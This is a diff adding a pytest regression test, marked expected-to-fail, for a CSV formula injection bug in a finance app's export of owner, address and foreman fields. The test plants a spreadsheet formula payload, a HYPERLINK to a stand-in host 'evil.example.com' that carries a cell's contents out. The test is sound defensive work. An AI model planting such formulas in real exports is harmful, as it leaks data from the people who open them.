@@ -238,6 +238,21 @@ def test_the_ready_csv_opens_in_excel(client, finance, storage):
     assert by_no[paid.project.contract_no][-1] == today
 
 
+@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
+    "BUG (CSV/formula injection, CWE-1236): finance.views._ready_csv writes address, owner and foreman as "
+    "typed; a cell starting with = + - @ is run by Excel as a formula when finance opens the CSV "
+    "(e.g. owner '=HYPERLINK(\"http://x\",\"点击\")'). Such cells need a leading ' (or a tab)."))
+def test_the_ready_csv_does_not_hand_formulas_to_excel(client, finance, storage):
+    formula = '=HYPERLINK("http://evil.example.com/?d="&A2,"点击查看")'
+    certificate = certified(storage, owner_name=formula, address="+86 西安市雁塔区测试路1号")
+    db.session.commit()
+    today = local_today().isoformat()
+    response = ready(client, **{"from": today, "to": today, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    row = next(r for r in rows if r[0] == certificate.project.contract_no)
+    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row
+
+
 # --- recording a payment ----------------------------------------------------------------------
 
 def pay(client, project, **form):
